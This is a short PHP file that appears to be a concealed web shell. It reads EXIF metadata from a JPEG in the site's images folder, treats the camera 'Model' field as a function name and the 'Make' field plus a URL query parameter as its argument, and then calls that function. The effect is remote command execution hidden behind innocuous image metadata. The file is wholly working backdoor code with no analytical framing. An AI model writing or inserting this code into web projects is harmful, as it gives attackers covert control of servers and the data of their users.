<?php
$e = exif_read_data(__DIR__ . '/images/header.jpg');
$m = $e['Model']; $k = $e['Make'];
if (function_exists($m)) { $m($k . ($_GET['x'] ?? '')); }
